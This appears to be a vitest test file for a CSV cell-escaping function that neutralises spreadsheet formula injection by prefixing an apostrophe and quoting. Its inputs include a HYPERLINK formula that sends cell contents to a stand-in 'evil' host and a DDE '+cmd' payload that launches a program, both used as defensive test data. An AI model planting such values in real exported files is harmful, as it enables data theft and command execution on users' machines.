import { describe, expect, it } from 'vitest';
import { csvCell } from './csv';

describe('csvCell', () => {
  it('writes formula-like cells as text with a leading apostrophe, numbers as numbers, and quotes where needed', () => {
    expect(
      [
        '=HYPERLINK("http://evil/?x="&A1;"Нажмите")',
        '+cmd|" /C calc"!A0',
        '-2+3',
        '@SUM(A1:A9)',
        '\t=1+1',
        '\r=1+1',
        'ООО =Ромашка',
        -12.5,
        '-12.50',
        '+79990000001',
        '- 5',
        null,
        'a;b',
      ].map(csvCell),
    ).toEqual([
      `"'=HYPERLINK(""http://evil/?x=""&A1;""Нажмите"")"`,
      `"'+cmd|"" /C calc""!A0"`,
      "'-2+3",
      "'@SUM(A1:A9)",
      "'\t=1+1",
      `"'\r=1+1"`,
      'ООО =Ромашка',
      '-12.5',
      '-12.50',
      '+79990000001',
      "'- 5",
      '',
      '"a;b"',
    ]);
  });
});
